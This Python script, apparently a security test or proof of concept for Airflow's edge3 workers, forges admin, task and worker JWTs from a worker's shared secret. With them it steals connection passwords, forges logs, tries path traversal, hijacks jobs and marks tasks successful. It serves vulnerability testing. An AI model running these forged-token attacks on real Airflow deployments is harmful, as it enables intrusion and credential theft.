"""A thief with the environment of an edge3 worker, and nothing else: a program that prints what it could do.

Which works, hosts, runs and task instances there are it finds out by itself. ``edge3_thief.py attack`` tries all
that it is told to; ``edge3_thief.py removed`` goes on after the host has been removed.
"""

from __future__ import annotations

import json
import os
import sys
import time
from datetime import UTC, datetime
from typing import Any
from urllib.parse import unquote
from uuid import uuid4

import httpx
import jwt

SECRET = os.environ["AIRFLOW__API_AUTH__JWT_SECRET"]
WORKERS = os.environ["AIRFLOW__EDGE__API_URL"].removesuffix("/rpcapi")
SITE = WORKERS.removesuffix("/edge_worker/v1")
SYSINFO = {"airflow_version": sys.argv[2], "edge_provider_version": sys.argv[3], "concurrency": 1}
HTTP = httpx.Client(timeout=30, trust_env=False)


def sign(**claims: Any) -> str:
    """Return a token that is valid for a minute."""
    now = int(time.time())
    said = {"jti": uuid4().hex, "nbf": now, "iat": now, "exp": now + 60, **claims}
    return jwt.encode(said, SECRET, algorithm="HS512")


def as_admin(method: str, path: str, **more: Any) -> httpx.Response:
    """Ask Airflow, as an admin that nobody made."""
    token = sign(aud="apache-airflow", sub="admin", role="admin", teams=[])
    return HTTP.request(method, SITE + path, headers={"Authorization": f"Bearer {token}"}, **more)


def as_task(method: str, path: str, instance: str, **more: Any) -> httpx.Response:
    """Ask the Execution API, as a task instance."""
    token = sign(aud="urn:airflow.apache.org:task", sub=instance, scope="execution")
    return HTTP.request(method, f"{SITE}/execution{path}", headers={"Authorization": f"Bearer {token}"}, **more)


def as_worker(method: str, path: str, body: Any = None, signed: str | None = None) -> httpx.Response:
    """Ask edge3's own API. Its token names the path, and no worker."""
    token = sign(aud="api", method=signed or path)
    return HTTP.request(method, f"{WORKERS}/{path}", headers={"Authorization": token}, json=body)


def worker_state(state: str) -> dict[str, Any]:
    """Return what a worker says of itself."""
    return {"state": state, "jobs_active": 0, "queues": ["neighbour"], "sysinfo": SYSINFO}


def fetch(name: str, queue: str) -> httpx.Response:
    """Fetch a job."""
    body = {"queues": [queue], "free_concurrency": 1, "supports_task_instance_uuid": True}
    return as_worker("POST", f"jobs/fetch/{name}", body)


def running(dag_id: str) -> dict[str, Any]:
    """Return the running task instance of a Dag."""
    answer = as_admin("GET", f"/api/v2/dags/{dag_id}/dagRuns/~/taskInstances", params={"state": "running"})
    found: dict[str, Any] = answer.json()["task_instances"][0]
    return found


def has(answer: httpx.Response, text: str) -> bool:
    """Whether an answer is a success that has a text in it."""
    return answer.is_success and text in answer.text


class Attacks:
    """All that is tried while the host belongs to the site. Each returns whether it worked, and the answers."""

    def __init__(self) -> None:
        self.task = running("work_neighbour")
        self.run = f"/api/v2/dags/work_neighbour/dagRuns/{self.task['dag_run_id']}"
        self.log = f"{self.run}/taskInstances/work/logs/{self.task['try_number']}"
        self.names = f"work_neighbour/work/{self.task['dag_run_id']}/{self.task['try_number']}/-1"

    def public_api(self) -> tuple[bool, str]:
        """List connections, and start a run."""
        connections = as_admin("GET", "/api/v2/connections")
        started = as_admin("POST", "/api/v2/dags/work_neighbour/dagRuns", json={"logical_date": None})
        return has(connections, "vault") and started.is_success, f"{connections.status_code}, {started.status_code}"

    def task_token(self) -> tuple[bool, str]:
        """Read as the neighbour's task."""
        me = self.task["id"]
        vault = as_task("GET", "/connections/vault", me)
        variable = as_task("GET", "/variables/colour", me)
        xcom = as_task("GET", f"/xcoms/work_neighbour/{self.task['dag_run_id']}/work/found", me)
        seen = [vault.status_code, variable.status_code, xcom.status_code]
        worked = has(vault, "the password") and has(variable, "red") and has(xcom, "the XCom of neighbour")
        return worked, ", ".join(map(str, seen))

    def log_read(self) -> tuple[bool, str]:
        """Read the neighbour's log."""
        answer = as_admin("GET", self.log)
        return answer.is_success, str(answer.status_code)

    def log_write(self) -> tuple[bool, str]:
        """Write into the neighbour's log."""
        answer = self._push(f"logs/push/{self.names}", "forged by a thief\n")
        seen = as_admin("GET", self.log)
        return has(seen, "forged by a thief"), f"{answer.status_code}; Airflow shows it"

    def log_path(self) -> tuple[bool, str]:
        """Write beside the logs: the path is made of names that must belong to a task instance."""
        names = ("..%2F..%2Fbeside", "x"), ("work_neighbour", "..%2F..%2Fbeside"), ("work_neighbour", "..")
        paths = [f"logs/push/{dag}/work/{run}/1/-1" for dag, run in names]
        # Which form of it the signed path has to have is not known: both are tried.
        answers = [self._push(path, "beside", signed=form) for path in paths for form in (path, unquote(path))]
        return any(answer.is_success for answer in answers), ", ".join(
            sorted({str(each.status_code) for each in answers})
        )

    def steer(self) -> tuple[bool, str]:
        """Put the neighbour's worker into maintenance, as edge3's page does."""
        path = "/edge_worker/ui/worker/neighbour/maintenance"
        answer = as_admin("POST", path, json={"maintenance_comment": "forged"})
        return answer.is_success, f"{answer.status_code}; it takes no more work"

    def pose(self) -> tuple[bool, str]:
        """Say that the neighbour is idle and well, in its name."""
        answer = as_worker("PATCH", "worker/neighbour", worker_state("idle"))
        return answer.is_success, str(answer.status_code)

    pose_unbound = pose

    def payload(self) -> tuple[bool, str]:
        """Take what waits for the neighbour, and its token."""
        answer = fetch("stolen", "neighbour")
        return has(answer, "work_neighbour"), f"{answer.status_code}, with payload and token"

    def end(self) -> tuple[bool, str]:
        """Report the neighbour's task as successful."""
        end = {
            "state": "success",
            "end_date": datetime.now(tz=UTC).isoformat(),
            "task_outlets": [],
            "outlet_events": [],
        }
        answer = as_task("PATCH", f"/task-instances/{self.task['id']}/state", self.task["id"], json=end)
        state = as_admin("GET", f"{self.run}/taskInstances/work").json()["state"]
        return state == "success", f"{answer.status_code}; Airflow has it as {state}"

    def own_queue(self) -> tuple[bool, str]:
        """Take a job of one's own queue."""
        fetched = fetch("stolen", "stolen")
        instance = running("work_stolen")["id"]
        vault = as_task("GET", "/connections/vault", instance)
        return has(fetched, "work_stolen") and has(vault, "the password"), f"{fetched.status_code}, {vault.status_code}"

    def own_name(self) -> tuple[bool, str]:
        """Speak in the host's own name."""
        answer = as_worker("PATCH", "worker/stolen", worker_state("idle"))
        return answer.is_success, f"{answer.status_code}; the worker goes on, nobody is told"

    def no_credential(self) -> tuple[bool, str]:
        """Call each route without a token."""
        routes = (
            ("POST", "jobs/fetch/neighbour"),
            ("PATCH", f"jobs/state/{self.names}/success"),
            ("GET", f"logs/logfile_path/{self.names}"),
            ("POST", f"logs/push/{self.names}"),
            ("POST", "worker/neighbour"),
            ("PATCH", "worker/neighbour"),
            ("PATCH", "worker/queues/neighbour"),
        )
        statuses = [HTTP.request(method, f"{WORKERS}/{path}", json={}).status_code for method, path in routes]
        seen = ", ".join(map(str, sorted(set(statuses))))
        return any(status < 400 for status in statuses), f"{len(routes)} routes: {seen}"

    def _push(self, path: str, text: str, signed: str | None = None) -> httpx.Response:
        """Push a chunk of log."""
        body = {
            "log_chunk_time": datetime.now(tz=UTC).isoformat(),
            "log_chunk_data": text,
            "task_instance_id": self.task["id"],
        }
        return as_worker("POST", path, body, signed=signed)


class Afterwards:
    """What is tried when the host belongs to the site no more."""

    def removed(self) -> tuple[bool, str]:
        """Register as if nothing had happened, and go on."""
        answer = as_worker("POST", "worker/stolen-again", worker_state("starting"))
        admin = as_admin("GET", "/api/v2/connections")
        worked = answer.is_success and admin.is_success
        return worked, f"{answer.status_code}, {admin.status_code}; jwt_secret has to be changed everywhere"

    def removed_task(self) -> tuple[bool, str]:
        """Sign another token."""
        vault = as_task("GET", "/connections/vault", str(uuid4()))
        return has(vault, "the password"), f"{vault.status_code}; also for a task that never was"


def main() -> None:
    """Try, and print what came of it."""
    attacks = Afterwards() if sys.argv[1] == "removed" else Attacks()
    print(json.dumps({key: getattr(attacks, key.replace("-", "_"))() for key in sys.argv[4:]}))


if __name__ == "__main__":
    main()
